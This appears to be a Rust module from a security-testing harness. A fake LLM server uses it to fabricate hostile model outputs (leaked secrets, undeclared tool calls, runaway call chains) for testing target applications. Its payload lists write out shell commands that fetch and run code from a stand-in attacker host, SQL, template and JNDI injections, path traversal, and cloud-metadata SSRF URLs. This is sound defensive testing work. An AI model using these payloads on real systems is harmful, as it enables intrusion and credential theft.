//! Fabricated LLM outputs (docs/ARCHITECTURE.md §5): what confab, playing the model, answers the target.
//!
//! An output is a **script**: one [`ModelTurn`] per call the target makes to the model in one
//! request (turn 0 answers the first call, turn 1 the call that carries the tool results, …).
//! A turn is text or tool calls, in the OpenAI chat-completions shape (docs/ARCHITECTURE.md §9), ready for the
//! fake LLM server to serialize as JSON ([`ModelTurn::to_openai_message`]) or as SSE.
//!
//! An [`OutputRecipe`] plus an [`OutputContext`] (what the model was sent and who the caller
//! is) is the whole input; [`OutputRecipe::build`] is pure and deterministic. Recipes come from
//! proptest ([`OutputRecipe::strategy`]) or from fuzzer bytes (`arbitrary::Arbitrary`).
//!
//! # Ground truth
//!
//! Each [`FabricatedOutput`] carries [`Invented`]: every identifier in the script that the
//! context did not supply, and every echo with where it came from. The rule, applied to every
//! value the script holds:
//!
//! * a **tool name** is invented unless a declared tool has exactly that name;
//! * an **id or URL** is known (not invented) if it is one of the caller's own ids, or if it is
//!   at least [`MIN_TRACEABLE_CHARS`] characters long and occurs in a text the model was sent;
//!   otherwise it is invented. Other tenants' ids count as invented: the model guessed them.
//!
//! "Values the script holds" are, precisely:
//!
//! * tool-call names, and the string and number leaves of tool-call arguments (numbers as
//!   their JSON text; booleans and nulls are not identifiers);
//! * in text turns: the leaves of each ```` ```json ```` fenced block, the content of each
//!   inline code span (`` `…` ``), and URLs anywhere else;
//! * a leaf or code span that is a URL as a whole is a URL; otherwise it is an id, and the URLs
//!   embedded in it are URLs too.
//!
//! A URL is `scheme://…` (scheme of ASCII letters, digits, `+ - .`) up to the first whitespace,
//! control character or one of `` " ' ( ) < > { } | \ ^ ` ``. Prose written by this module
//! contains no backtick and no `://`; raw echoes are whole paragraphs or whole leaves, so a
//! reader removes them before looking for identifiers (encoded echoes hold no delimiter).
//!
//! # No false positives by construction
//!
//! The model echoes only spans of the texts it was sent ([`SentTexts`]) and those
//! [`OutputContext::watched_secrets`] that occur in them: a secret the target never showed
//! the model never appears in a script, raw or encoded.

use arbitrary::Arbitrary;
use proptest::prelude::*;
use proptest::sample::select;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};

use super::obfuscate;

/// Shorter ids and URLs are never taken as copied from a sent text: a short string occurs in
/// some text by chance and carries no provenance.
pub const MIN_TRACEABLE_CHARS: usize = 6;

/// Shortest text span or secret the model echoes; shorter ones prove nothing.
pub const MIN_ECHO_CHARS: usize = 8;

/// Longest span echoed from a long text (system prompt, tool result, user prompt).
pub const ECHO_SPAN_CHARS: usize = 80;

/// Most calls a runaway chain makes beyond the cap, and the cap taken into account at most
/// (so a huge cap from fuzzer bytes cannot make a case allocate without bound).
pub const RUNAWAY_EXTRA_MAX: u32 = 32;
const RUNAWAY_CAP_LIMIT: u32 = 256;

// ---------------------------------------------------------------------------------------------
// Context

/// JSON-schema type of a declared tool parameter.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ParamKind {
    /// `"type": "string"`, or no type given.
    String,
    /// `"type": "integer"`.
    Integer,
    /// `"type": "number"`.
    Number,
    /// `"type": "boolean"`.
    Boolean,
    /// `"type": "array"`.
    Array,
    /// `"type": "object"`.
    Object,
}

/// One parameter of a declared tool.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
pub struct ToolParam {
    /// Property name in the tool's JSON schema.
    pub name: String,
    /// Its JSON type.
    pub kind: ParamKind,
}

/// A tool the target declared in its request to the model (`tools[].function`).
#[derive(Clone, Debug, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
pub struct DeclaredTool {
    /// Function name.
    pub name: String,
    /// Parameters, in schema order.
    pub params: Vec<ToolParam>,
}

impl DeclaredTool {
    /// A tool named `name` with `(parameter, type)` pairs in schema order.
    pub fn new(name: &str, params: &[(&str, ParamKind)]) -> DeclaredTool {
        DeclaredTool {
            name: name.to_owned(),
            params: params
                .iter()
                .map(|&(param, kind)| ToolParam {
                    name: param.to_owned(),
                    kind,
                })
                .collect(),
        }
    }

    /// Reads one entry of an OpenAI `tools` array (`{"type": "function", "function": {"name",
    /// "parameters": {"properties": {…}}}}`); `None` if it has no function name.
    pub fn from_openai(tool: &Value) -> Option<DeclaredTool> {
        let function = tool.get("function")?;
        let name = function.get("name")?.as_str()?.to_owned();
        let params = function
            .get("parameters")
            .and_then(|schema| schema.get("properties"))
            .and_then(Value::as_object)
            .map(|properties| {
                properties
                    .iter()
                    .map(|(param, schema)| ToolParam {
                        name: param.clone(),
                        kind: match schema.get("type").and_then(Value::as_str) {
                            Some("integer") => ParamKind::Integer,
                            Some("number") => ParamKind::Number,
                            Some("boolean") => ParamKind::Boolean,
                            Some("array") => ParamKind::Array,
                            Some("object") => ParamKind::Object,
                            _ => ParamKind::String,
                        },
                    })
                    .collect()
            })
            .unwrap_or_default();
        Some(DeclaredTool { name, params })
    }
}

/// The texts the target sent the model in this exchange: all the model may echo.
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
pub struct SentTexts {
    /// The system message(s), joined.
    pub system_prompt: String,
    /// The user message(s), joined.
    pub user_prompt: String,
    /// Contents of tool messages (and documents the target pasted in).
    pub tool_results: Vec<String>,
}

impl SentTexts {
    /// Every sent text.
    pub fn all(&self) -> impl Iterator<Item = &str> {
        [self.system_prompt.as_str(), self.user_prompt.as_str()]
            .into_iter()
            .chain(self.tool_results.iter().map(String::as_str))
    }

    /// Whether some sent text contains `value`.
    pub fn contain(&self, value: &str) -> bool {
        self.all().any(|text| text.contains(value))
    }
}

/// Everything an output is fabricated from.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
pub struct OutputContext {
    /// Resource ids the calling principal owns.
    pub own_ids: Vec<String>,
    /// Resource ids of other principals (the model "guesses" them).
    pub other_ids: Vec<String>,
    /// Tools the target declared to the model.
    pub tools: Vec<DeclaredTool>,
    /// Base URL of the sink's attacker host, e.g. `http://127.0.0.1:41235/attacker`.
    pub attacker_base_url: String,
    /// Loopback ports worth aiming at (the target's own, the sink's, the fake LLM's).
    pub loopback_ports: Vec<u16>,
    /// What the model was sent.
    pub sent: SentTexts,
    /// Values the harness watches for (bearer token, LLM API key, signing key, other tenants'
    /// content markers). The model echoes one only if a sent text contains it.
    pub watched_secrets: Vec<String>,
    /// The spec's `llm_calls_per_request`: runaway chains go past it.
    pub call_cap: u32,
}

impl Default for OutputContext {
    fn default() -> Self {
        Self {
            own_ids: Vec::new(),
            other_ids: Vec::new(),
            tools: Vec::new(),
            attacker_base_url: "http://attacker.test".to_owned(),
            loopback_ports: Vec::new(),
            sent: SentTexts::default(),
            watched_secrets: Vec::new(),
            call_cap: 4,
        }
    }
}

impl OutputContext {
    /// Whether an id or URL is supplied by the context (see the module's rule); a value that
    /// is not is invented.
    pub fn knows_value(&self, value: &str) -> bool {
        self.own_ids.iter().any(|own| own == value)
            || (value.chars().count() >= MIN_TRACEABLE_CHARS && self.sent.contain(value))
    }

    /// Whether the target declared a tool with exactly this name.
    pub fn declares_tool(&self, name: &str) -> bool {
        self.tools.iter().any(|tool| tool.name == name)
    }
}

// ---------------------------------------------------------------------------------------------
// Script: the turns are the wire format's own types.

pub use crate::wire::{ModelTurn, ToolCall};

/// Which sent text an echo copies.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EchoSource {
    /// A span of the system prompt.
    SystemPrompt,
    /// A span of the user prompt.
    UserPrompt,
    /// A span of a tool result.
    ToolResult,
    /// A watched secret found in a sent text.
    Secret,
}

/// How an echo is encoded in the output.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EchoEncoding {
    /// Verbatim.
    Raw,
    /// Standard base64 with padding.
    Base64,
    /// URL-safe base64 without padding.
    Base64Url,
    /// Lower-case hex of the UTF-8 bytes.
    Hex,
    /// Percent-encoding of everything but RFC 3986 unreserved characters.
    Percent,
}

impl EchoEncoding {
    /// Every encoding.
    pub const ALL: [EchoEncoding; 5] = [
        EchoEncoding::Raw,
        EchoEncoding::Base64,
        EchoEncoding::Base64Url,
        EchoEncoding::Hex,
        EchoEncoding::Percent,
    ];

    /// Encodes `value`.
    pub fn encode(self, value: &str) -> String {
        match self {
            EchoEncoding::Raw => value.to_owned(),
            EchoEncoding::Base64 => obfuscate::base64_standard(value),
            EchoEncoding::Base64Url => obfuscate::base64_url(value),
            EchoEncoding::Hex => obfuscate::hex_lower(value),
            EchoEncoding::Percent => obfuscate::percent_encode(value),
        }
    }

    /// The encoding used where the value must sit inside a URL.
    fn url_safe(self) -> EchoEncoding {
        match self {
            EchoEncoding::Raw => EchoEncoding::Percent,
            EchoEncoding::Base64 => EchoEncoding::Base64Url,
            other => other,
        }
    }
}

/// One value the model copied from what it was sent.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Echo {
    /// Where `value` comes from.
    pub source: EchoSource,
    /// The copied text, verbatim: a substring of a sent text.
    pub value: String,
    /// How it was encoded.
    pub encoding: EchoEncoding,
    /// `encoding.encode(value)`, as it appears in the script.
    pub emitted: String,
}

/// Ground truth of a fabricated output: what the context did not supply, and what was echoed.
/// Each list is without duplicates, in the order the generator met the values.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Invented {
    /// Invented resource ids (and other non-URL argument values).
    pub ids: Vec<String>,
    /// Invented tool names.
    pub tools: Vec<String>,
    /// Invented URLs.
    pub urls: Vec<String>,
    /// Echoes of sent texts.
    pub echoes: Vec<Echo>,
}

/// A generated script with its labels and ground truth.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct FabricatedOutput {
    /// Family label.
    pub family: OutputFamily,
    /// Channel label: where the payload was put (after fallbacks, e.g. text when the target
    /// declared no tool).
    pub channel: Channel,
    /// The turns, answering the target's successive calls to the model.
    pub turns: Vec<ModelTurn>,
    /// What the context did not supply, and what was echoed.
    pub invented: Invented,
}

/// Finds credentials by the scrubber's credential rules, plus its entropy rule where `entropy`.
fn credential_detector(entropy: bool) -> Option<&'static crate::guard::scrub::Scrubber> {
    static WITH: std::sync::OnceLock<Option<crate::guard::scrub::Scrubber>> =
        std::sync::OnceLock::new();
    static WITHOUT: std::sync::OnceLock<Option<crate::guard::scrub::Scrubber>> =
        std::sync::OnceLock::new();
    let cell = if entropy { &WITH } else { &WITHOUT };
    cell.get_or_init(|| {
        crate::guard::scrub::ScrubberBuilder::new()
            .config(crate::guard::scrub::ScrubConfig {
                credentials: true,
                high_entropy: entropy,
                pii: false,
                ..crate::guard::scrub::ScrubConfig::default()
            })
            .build()
            .ok()
    })
    .as_ref()
}

/// Credentials the target showed the model (item 7): what the credential rules find in its
/// system prompt (and the entropy rule there too) and in the tool results it passed on.
/// Values the run planted itself (the caller's token, the keys, document markers) are not
/// counted: they have names of their own, or are the caller's own content.
pub fn shown_credentials(
    system_prompt: &str,
    tool_results: &[String],
    planted: &[&str],
) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut scan = |text: &str, entropy: bool| {
        let Some(d) = credential_detector(entropy) else {
            return;
        };
        for f in d.find(text.as_bytes()) {
            if !matches!(
                f.kind,
                crate::guard::scrub::RedactionKind::Credential
                    | crate::guard::scrub::RedactionKind::HighEntropy
            ) {
                continue;
            }
            let Some(v) = text.get(f.start as usize..f.end as usize) else {
                continue;
            };
            let v = v.trim();
            if v.len() < crate::guard::scrub::MIN_SECRET_LEN
                || planted.iter().any(|p| p.contains(v) || v.contains(p))
                || out.iter().any(|o| o == v)
            {
                continue;
            }
            out.push(v.to_owned());
        }
    };
    scan(system_prompt, true);
    for t in tool_results {
        scan(t, false);
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Recipe

/// What kind of damage the output aims at.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Arbitrary, Serialize, Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum OutputFamily {
    /// Calls every tool the target declared (write and delete ones too) with fabricated
    /// arguments.
    DeclaredTools,
    /// Ids of resources other principals own.
    OtherTenantIds,
    /// Path traversal in ids (`../doc-b1`, `..%2F`, `/etc/passwd`).
    PathTraversal,
    /// Percent, double-percent, homoglyph, fullwidth and zero-width variants of ids.
    EncodedIds,
    /// Wildcards and match-everything ids (`*`, `%`, `doc-*`, empty).
    Wildcards,
    /// SQL, shell, template, NoSQL and header injection strings as ids.
    Injection,
    /// Tool names the target never declared, and invented arguments to declared tools.
    InventedTools,
    /// URLs: attacker host, cloud metadata, loopback ports, decimal and hex IPs, `file:`.
    InventedUrls,
    /// Echoes of the system prompt, secrets seen and tool results, raw or encoded.
    Echo,
    /// More consecutive (or parallel) tool calls than the cap allows.
    RunawayChain,
    /// Ids that start with, end with or contain the caller's own id (`doc-a10`, `x-doc-a1`,
    /// `doc-a1/../doc-b1`): they pass an ownership check made with `startswith` or `in`.
    OwnIdExtensions,
    /// A credential the target showed the model (in its system prompt or a tool result),
    /// alone, raw or encoded, as a real model leaks a key it was given.
    ShownSecrets,
}

impl OutputFamily {
    /// Every family, in declaration order.
    pub const ALL: [OutputFamily; 12] = [
        OutputFamily::DeclaredTools,
        OutputFamily::OtherTenantIds,
        OutputFamily::PathTraversal,
        OutputFamily::EncodedIds,
        OutputFamily::Wildcards,
        OutputFamily::Injection,
        OutputFamily::InventedTools,
        OutputFamily::InventedUrls,
        OutputFamily::Echo,
        OutputFamily::RunawayChain,
        OutputFamily::OwnIdExtensions,
        OutputFamily::ShownSecrets,
    ];

    /// Stable snake_case label (the serde name).
    pub fn name(self) -> &'static str {
        match self {
            OutputFamily::DeclaredTools => "declared_tools",
            OutputFamily::OtherTenantIds => "other_tenant_ids",
            OutputFamily::PathTraversal => "path_traversal",
            OutputFamily::EncodedIds => "encoded_ids",
            OutputFamily::Wildcards => "wildcards",
            OutputFamily::Injection => "injection",
            OutputFamily::InventedTools => "invented_tools",
            OutputFamily::InventedUrls => "invented_urls",
            OutputFamily::Echo => "echo",
            OutputFamily::RunawayChain => "runaway_chain",
            OutputFamily::OwnIdExtensions => "own_id_extensions",
            OutputFamily::ShownSecrets => "shown_secrets",
        }
    }
}

/// Where the payload goes.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Arbitrary, Serialize, Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum Channel {
    /// In tool-call arguments (falls back to text when the target declared no tool).
    ToolCall,
    /// In prose: inline code spans, markdown links and images.
    Text,
    /// In a ```` ```json ```` block inside text, for targets that parse the model's text.
    JsonInText,
}

impl Channel {
    /// Every channel.
    pub const ALL: [Channel; 3] = [Channel::ToolCall, Channel::Text, Channel::JsonInText];

    /// Stable snake_case label (the serde name).
    pub fn name(self) -> &'static str {
        match self {
            Channel::ToolCall => "tool_call",
            Channel::Text => "text",
            Channel::JsonInText => "json_in_text",
        }
    }
}

/// The whole input of one fabricated output, besides the context. Small integers shrink
/// toward the first payload of each list and the first element of the context.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Arbitrary, Serialize, Deserialize)]
pub struct OutputRecipe {
    /// What the output aims at.
    pub family: OutputFamily,
    /// Where the payload goes.
    pub channel: Channel,
    /// Which payload of the family's list (taken modulo its length).
    pub variant: u8,
    /// Which context element (tool, id, port, echo source) to use (modulo the count).
    pub pick: u8,
    /// Echo encoding (echo family; made URL-safe where the echo sits in a URL).
    pub encoding: EchoEncoding,
    /// Runaway chains: how many calls past the cap (modulo [`RUNAWAY_EXTRA_MAX`], plus one).
    pub extra_calls: u8,
    /// Source of fresh ids, call ids and span offsets.
    pub seed: u64,
}

impl OutputRecipe {
    /// A proptest strategy over all recipes.
    pub fn strategy() -> impl Strategy<Value = OutputRecipe> {
        (
            select(&OutputFamily::ALL[..]),
            select(&Channel::ALL[..]),
            any::<u8>(),
            any::<u8>(),
            select(&EchoEncoding::ALL[..]),
            any::<u8>(),
            any::<u64>(),
        )
            .prop_map(
                |(family, channel, variant, pick, encoding, extra_calls, seed)| OutputRecipe {
                    family,
                    channel,
                    variant,
                    pick,
                    encoding,
                    extra_calls,
                    seed,
                },
            )
    }

    /// Builds the script and its ground truth. Pure and deterministic.
    pub fn build(&self, ctx: &OutputContext) -> FabricatedOutput {
        let mut builder = Builder {
            ctx,
            recipe: self,
            invented: Invented::default(),
            turns: Vec::new(),
            next_call: 0,
        };
        let channel = builder.run();
        FabricatedOutput {
            family: self.family,
            channel,
            turns: builder.turns,
            invented: builder.invented,
        }
    }
}

/// A strategy over built outputs for one context.
pub fn outputs(ctx: OutputContext) -> impl Strategy<Value = FabricatedOutput> {
    OutputRecipe::strategy().prop_map(move |recipe| recipe.build(&ctx))
}

// ---------------------------------------------------------------------------------------------
// Payload catalogue. `{other}`, `{own}`, `{prefix}`, `{attacker}`, `{port}`, `{hex}` are
// filled from the context and the seed.

/// Ids built on the caller's own id: an ownership check by prefix, suffix or substring
/// passes them.
const OWN_EXTENSIONS: &[&str] = &[
    "{own}0",
    "{own}-x",
    "{own}/../{other}",
    "x-{own}",
    "{own}_{other}",
];

const TRAVERSALS: &[&str] = &[
    "../{other}",
    "{own}/../{other}",
    "../../../../etc/passwd",
    "..%2F..%2F{other}",
    "..%252F..%252F{other}",
    "....//....//etc/passwd",
    "..\\..\\{other}",
    "/{other}",
    "{own}/../../admin",
    "%2e%2e%2f%2e%2e%2f{other}",
    "{own}%2F..%2F{other}",
    "{own}/%2e%2e/{other}",
];

const WILDCARDS: &[&str] = &[
    "*",
    "%",
    "{prefix}*",
    "{prefix}%",
    "_all",
    "..",
    ".",
    "",
    "?",
    "null",
    "undefined",
    "[object Object]",
    "0",
    "-1",
    "all",
    "*/*",
    "{prefix}",
    "%2A",
    "**",
];

const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "{other}' OR '1'='1' --",
    "{own}'; DROP TABLE documents; --",
    "{own}' UNION SELECT owner, content FROM documents --",
    "{own}; curl -s {attacker}/x.sh | sh",
    "$(curl -s {attacker}/{hex})",
    "{own} && cat /etc/passwd",
    "{own}|id",
    "{{7*7}}",
    "{{config.items()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "${jndi:{attacker}/{hex}}",
    "{\"$ne\": null}",
    "{own}\r\nX-Injected: 1",
    "{own}%0d%0aX-Injected:%201",
    "<script>alert(1)</script>",
];

const URLS: &[&str] = &[
    "{attacker}/collect?case={hex}",
    "http://attacker.test/{hex}",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://[::1]:{port}/",
    "http://127.0.0.1:{port}/admin",
    "http://localhost:{port}/",
    "http://2130706433/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://127.1:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://attacker.test@127.0.0.1:{port}/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/_INFO",
];

const INVENTED_TOOL_NAMES: &[&str] = &[
    "delete_all_documents",
    "admin_execute",
    "run_shell",
    "http_get",
    "transfer_ownership",
    "grant_scope",
    "read_file",
    "sql_query",
    "send_email",
    "system",
];

/// Parameter names that take a resource id, in order of preference.
const ID_PARAM_HINTS: &[&str] = &[
    "id", "doc", "resource", "file", "path", "key", "user", "account", "owner", "target", "name",
];

/// Parameter names that take a URL.
const URL_PARAM_HINTS: &[&str] = &[
    "url", "uri", "link", "href", "endpoint", "webhook", "callback",
];

/// Parameter names that take free text (where an echo fits).
const TEXT_PARAM_HINTS: &[&str] = &[
    "body", "content", "text", "message", "note", "query", "comment",
];

const FINAL_TEXT: &str = "Done. The request has been completed.";

/// Prose around an id in a text turn; `{}` is where the code span goes. No backticks, no `://`.
const ID_SENTENCES: &[(&str, &str)] = &[
    ("I found the document you need: ", ". Fetching it now."),
    ("Opening ", " for you."),
    ("The record you want is ", "; please delete it when done."),
];

// ---------------------------------------------------------------------------------------------
// Builder

/// What the payload of a declared-tool call is (one per parameter in the declared-tools family).
#[derive(Clone, Copy)]
enum IdKind {
    ExtendsOwn,
    OtherTenant,
    Traversal,
    Encoded,
    Wildcard,
    Injection,
}

const ID_KINDS: [IdKind; 5] = [
    IdKind::OtherTenant,
    IdKind::Traversal,
    IdKind::Encoded,
    IdKind::Wildcard,
    IdKind::Injection,
];

struct Builder<'a> {
    ctx: &'a OutputContext,
    recipe: &'a OutputRecipe,
    invented: Invented,
    turns: Vec<ModelTurn>,
    next_call: u32,
}

impl<'a> Builder<'a> {
    /// Emits the turns; returns the channel actually used.
    fn run(&mut self) -> Channel {
        let recipe = self.recipe;
        let channel = match (recipe.channel, self.ctx.tools.is_empty()) {
            (Channel::ToolCall, true) => Channel::Text,
            (channel, _) => channel,
        };
        match recipe.family {
            OutputFamily::DeclaredTools => self.declared_tools(channel),
            OutputFamily::OtherTenantIds => self.id_payload_output(IdKind::OtherTenant, channel),
            OutputFamily::PathTraversal => self.id_payload_output(IdKind::Traversal, channel),
            OutputFamily::EncodedIds => self.id_payload_output(IdKind::Encoded, channel),
            OutputFamily::OwnIdExtensions => self.id_payload_output(IdKind::ExtendsOwn, channel),
            OutputFamily::ShownSecrets => self.shown_secret(channel),
            OutputFamily::Wildcards => self.id_payload_output(IdKind::Wildcard, channel),
            OutputFamily::Injection => self.id_payload_output(IdKind::Injection, channel),
            OutputFamily::InventedTools => {
                self.invented_tools();
                Channel::ToolCall
            }
            OutputFamily::InventedUrls => self.invented_urls(channel),
            OutputFamily::Echo => self.echo(channel),
            OutputFamily::RunawayChain => {
                self.runaway();
                Channel::ToolCall
            }
        }
    }

    // --- values from the context and the seed ---

    fn pick<'v>(&self, values: &'v [String], salt: usize) -> Option<&'v String> {
        let count = values.len();
        (count > 0).then(|| &values[(usize::from(self.recipe.pick) + salt) % count])
    }

    /// A fresh id shaped like the context's ids (`doc-` + `cnf` + hex): unique to the seed.
    fn fresh_id(&self, salt: u64) -> String {
        format!(
            "{}cnf{:08x}",
            self.id_prefix(),
            obfuscate::mix(self.recipe.seed, salt) as u32
        )
    }

    /// The part of a context id up to its last separator (`doc-b1` → `doc-`), limited to
    /// characters that cannot break the text grammar; `res-` when the context has no id.
    fn id_prefix(&self) -> String {
        let sample = self.ctx.other_ids.first().or(self.ctx.own_ids.first());
        let Some(sample) = sample else {
            return "res-".to_owned();
        };
        let cut = sample.rfind(['-', '_', '/', ':']).map_or(0, |at| at + 1);
        let prefix: String = sample[..cut]
            .chars()
            .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '/' | ':'))
            .collect();
        if prefix.is_empty() {
            "res-".to_owned()
        } else {
            prefix
        }
    }

    fn other_id(&self, salt: usize) -> String {
        self.pick(&self.ctx.other_ids, salt)
            .cloned()
            .unwrap_or_else(|| self.fresh_id(1))
    }

    fn own_id(&self) -> String {
        self.pick(&self.ctx.own_ids, 0)
            .cloned()
            .unwrap_or_else(|| self.fresh_id(2))
    }

    fn port(&self) -> u16 {
        let ports = &self.ctx.loopback_ports;
        if ports.is_empty() {
            80
        } else {
            ports[usize::from(self.recipe.pick) % ports.len()]
        }
    }

    fn hex_tag(&self) -> String {
        format!("{:08x}", obfuscate::mix(self.recipe.seed, 3) as u32)
    }

    fn attacker(&self) -> &str {
        self.ctx.attacker_base_url.trim_end_matches('/')
    }

    /// Fills the catalogue placeholders of `template`.
    fn expand(&self, template: &str, salt: usize) -> String {
        let mut out = String::with_capacity(template.len() + 32);
        let mut rest = template;
        while let Some(at) = rest.find('{') {
            out.push_str(&rest[..at]);
            let tail = &rest[at..];
            let key_end = tail.find('}').map(|end| end + 1);
            let filled = match key_end.map(|end| &tail[..end]) {
                Some("{other}") => Some(self.other_id(salt)),
                Some("{own}") => Some(self.own_id()),
                Some("{prefix}") => Some(self.id_prefix()),
                Some("{attacker}") => Some(self.attacker().to_owned()),
                Some("{port}") => Some(self.port().to_string()),
                Some("{hex}") => Some(self.hex_tag()),
                _ => None,
            };
            match (filled, key_end) {
                (Some(value), Some(end)) => {
                    out.push_str(&value);
                    rest = &tail[end..];
                }
                _ => {
                    out.push('{');
                    rest = &tail[1..];
                }
            }
        }
        out.push_str(rest);
        out
    }

    /// An id of the given kind; `salt` varies it between the calls of one output.
    fn id_payload(&self, kind: IdKind, salt: usize) -> String {
        let variant = usize::from(self.recipe.variant) + salt;
        match kind {
            IdKind::OtherTenant => self.other_id(salt),
            IdKind::ExtendsOwn => self.expand(OWN_EXTENSIONS[variant % OWN_EXTENSIONS.len()], salt),
            IdKind::Traversal => self.expand(TRAVERSALS[variant % TRAVERSALS.len()], salt),
            IdKind::Wildcard => self.expand(WILDCARDS[variant % WILDCARDS.len()], salt),
            IdKind::Injection => self.expand(INJECTIONS[variant % INJECTIONS.len()], salt),
            IdKind::Encoded => encoded_variant(&self.other_id(salt), variant),
        }
    }

    fn url_payload(&self, salt: usize) -> String {
        let variant = usize::from(self.recipe.variant) + salt;
        self.expand(URLS[variant % URLS.len()], salt)
    }

    // --- recording ---

    fn note_tool(&mut self, name: &str) {
        if !self.ctx.declares_tool(name) {
            push_unique(&mut self.invented.tools, name);
        }
    }

    /// Records a string leaf or code span: a URL as a whole, or an id and its embedded URLs.
    /// An echo is not an identifier: its provenance is recorded in [`Invented::echoes`].
    fn note_value(&mut self, value: &str) {
        if self
            .invented
            .echoes
            .iter()
            .any(|echo| echo.emitted == value)
        {
            return;
        }
        if is_whole_url(value) {
            self.note_url(value);
            return;
        }
        if !self.ctx.knows_value(value) {
            push_unique(&mut self.invented.ids, value);
        }
        for url in urls_in(value) {
            self.note_url(url);
        }
    }

    fn note_url(&mut self, url: &str) {
        if !self.ctx.knows_value(url) {
            push_unique(&mut self.invented.urls, url);
        }
    }

    fn next_call_id(&mut self) -> String {
        self.next_call += 1;
        format!(
            "call_{:012x}{:04x}",
            obfuscate::mix(self.recipe.seed, 4) >> 16,
            self.next_call
        )
    }

    /// A tool call; records its name and every identifier in its arguments.
    fn call(&mut self, name: &str, arguments: Value) -> ToolCall {
        self.note_tool(name);
        self.note_leaves(&arguments);
        ToolCall {
            id: self.next_call_id(),
            name: name.to_owned(),
            arguments,
        }
    }

    /// A turn of text whose only identifier is `id`, in a code span.
    fn id_sentence(&mut self, id: &str) -> ModelTurn {
        self.note_value(id);
        let (before, after) = ID_SENTENCES[usize::from(self.recipe.variant) % ID_SENTENCES.len()];
        ModelTurn::Text {
            content: format!("{before}`{id}`{after}"),
        }
    }

    /// A turn of text carrying `object` in a fenced JSON block; records its leaves.
    fn json_block(&mut self, object: Value) -> ModelTurn {
        self.note_leaves(&object);
        ModelTurn::Text {
            content: format!("Here is the action to perform:\n\n```json\n{object}\n```\n"),
        }
    }

    fn note_leaves(&mut self, value: &Value) {
        match value {
            Value::String(text) => self.note_value(text),
            Value::Number(number) => self.note_value(&number.to_string()),
            Value::Array(items) => items.iter().for_each(|item| self.note_leaves(item)),
            Value::Object(members) => members.values().for_each(|member| self.note_leaves(member)),
            Value::Bool(_) | Value::Null => {}
        }
    }

    fn tool_turns(&mut self, calls: Vec<ToolCall>) {
        self.turns.push(ModelTurn::ToolCalls { tool_calls: calls });
        self.turns.push(ModelTurn::Text {
            content: FINAL_TEXT.to_owned(),
        });
    }

    // --- arguments ---

    /// Arguments for `tool`: `payload` in its main parameter (added as `id` if it has none),
    /// `overrides` in theirs, the caller's own id (or `true`, `1`) elsewhere.
    fn arguments_with(
        &self,
        tool: &DeclaredTool,
        main: Option<usize>,
        payload: Value,
        overrides: &[(usize, Value)],
    ) -> Value {
        let mut arguments = Map::new();
        if main.is_none() {
            arguments.insert("id".to_owned(), payload.clone());
        }
        for (index, param) in tool.params.iter().enumerate() {
            let value = if let Some((_, value)) = overrides.iter().find(|(at, _)| *at == index) {
                value.clone()
            } else if Some(index) == main {
                payload.clone()
            } else {
                self.filler(param.kind)
            };
            arguments.insert(param.name.clone(), value);
        }
        Value::Object(arguments)
    }

    /// A plausible value for a parameter the case does not target.
    fn filler(&self, kind: ParamKind) -> Value {
        match kind {
            ParamKind::Boolean => Value::Bool(true),
            ParamKind::Integer | ParamKind::Number => Value::from(1),
            ParamKind::Array => json!([self.own_id()]),
            ParamKind::Object => json!({ "id": self.own_id() }),
            ParamKind::String => Value::String(self.own_id()),
        }
    }

    /// The first declared tool, counting from the picked one, with a parameter named like
    /// one of `hints`.
    fn tool_with_param(&self, hints: &[&str]) -> Option<&'a DeclaredTool> {
        let tools = &self.ctx.tools;
        let start = usize::from(self.recipe.pick);
        (0..tools.len())
            .map(|offset| &tools[(start + offset) % tools.len()])
            .find(|tool| param_matching(tool, hints).is_some())
    }

    fn chosen_tool(&self) -> Option<&'a DeclaredTool> {
        let tools = &self.ctx.tools;
        (!tools.is_empty()).then(|| &tools[usize::from(self.recipe.pick) % tools.len()])
    }

    // --- families ---

    fn id_payload_output(&mut self, kind: IdKind, channel: Channel) -> Channel {
        let payload = self.id_payload(kind, 0);
        match (channel, self.chosen_tool()) {
            (Channel::ToolCall, Some(tool)) => {
                let main = id_param(tool);
                let arguments = self.arguments_with(tool, main, Value::String(payload), &[]);
                let call = self.call(&tool.name, arguments);
                self.tool_turns(vec![call]);
                Channel::ToolCall
            }
            (Channel::JsonInText, _) => {
                let turn = self.json_block(json!({ "document_id": payload }));
                self.turns.push(turn);
                Channel::JsonInText
            }
            _ => {
                let turn = self.id_sentence(&payload);
                self.turns.push(turn);
                Channel::Text
            }
        }
    }

    /// Every declared tool, each main parameter with another kind of id, URL parameters with
